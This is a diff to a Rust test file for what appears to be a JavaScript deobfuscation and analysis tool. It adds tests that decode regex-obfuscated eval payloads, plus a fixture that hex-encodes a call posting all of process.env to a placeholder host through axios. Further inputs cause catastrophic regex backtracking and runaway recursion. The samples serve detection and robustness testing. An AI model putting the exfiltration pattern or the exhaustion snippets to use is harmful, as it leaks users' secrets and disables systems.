@@ -172,6 +172,50 @@ fn what_depends_on_the_outside_is_left_alone() {
 }
 
 #[test]
+fn pieces_that_a_regular_expression_finds_are_decoded() {
+    let hex: String = PAYLOAD.bytes().map(|b| format!("{b:02x}")).collect();
+    let escaped: String = PAYLOAD.bytes().map(|b| format!("%{b:02X}")).collect();
+    let spaced = codes(0, 0).replace(',', " - ");
+    for (name, text) in [
+        (
+            "replace",
+            format!(
+                "const open = h => h.replace(/../g, p => String.fromCharCode(parseInt(p, 16))); eval(open('{hex}'));"
+            ),
+        ),
+        (
+            "replace with a group",
+            format!(
+                "eval('{escaped}'.replace(/%([0-9A-F]{{2}})/gi, (_, p) => String.fromCharCode('0x' + p)));"
+            ),
+        ),
+        (
+            "match",
+            format!(
+                "eval('{hex}'.match(/.{{1,2}}/g).map(p => String.fromCharCode(parseInt(p, 16))).join(''));"
+            ),
+        ),
+        (
+            "split",
+            format!(
+                "eval('{spaced}'.split(/\\s*-\\s*/).map(c => String.fromCharCode(c)).join(''));"
+            ),
+        ),
+    ] {
+        comes_out(name, &text);
+    }
+    // a table of such texts, read where a member is named
+    let facts = facts(
+        "const axios = require('axios');
+         const g = h => h.replace(/../g, p => String.fromCharCode(parseInt(p, 16)));
+         const words = ['706f7374', '68747470733a2f2f632e6578616d706c652e696e76616c6964'];
+         exports.start = () => axios[g(words[0])](g(words[1]), {...process.env});",
+    );
+    let sent = facts.uses.iter().any(|u| &*u.api == "axios.post");
+    assert!(sent, "{:#?}", facts.uses);
+}
+
+#[test]
 fn hostile_programs_end() {
     let hostile = [
         "const f = () => f(); f(); String.fromCharCode(f());",
@@ -180,6 +224,8 @@ fn hostile_programs_end() {
         "let a = [1]; a[4000000] = 1; a.map(c => String.fromCharCode(c)).join('');",
         "for (;;) { String.fromCharCode(1); }",
         "const f = n => n < 1 ? '' : f(n - 1) + f(n - 1) + String.fromCharCode(n); eval(f(60));",
+        "'a'.repeat(100000).replace(/(a*)*b/g, p => String.fromCharCode(p));",
+        "const f = p => 'aa'.replace(/a/g, f) + String.fromCharCode(1); f();",
         "let s = 'x'.repeat(4000000); for (let i = 0; i < 4000000; i++) s = s + String.fromCharCode(i);",
     ];
     let started = foretaste_model::Stopwatch::start();
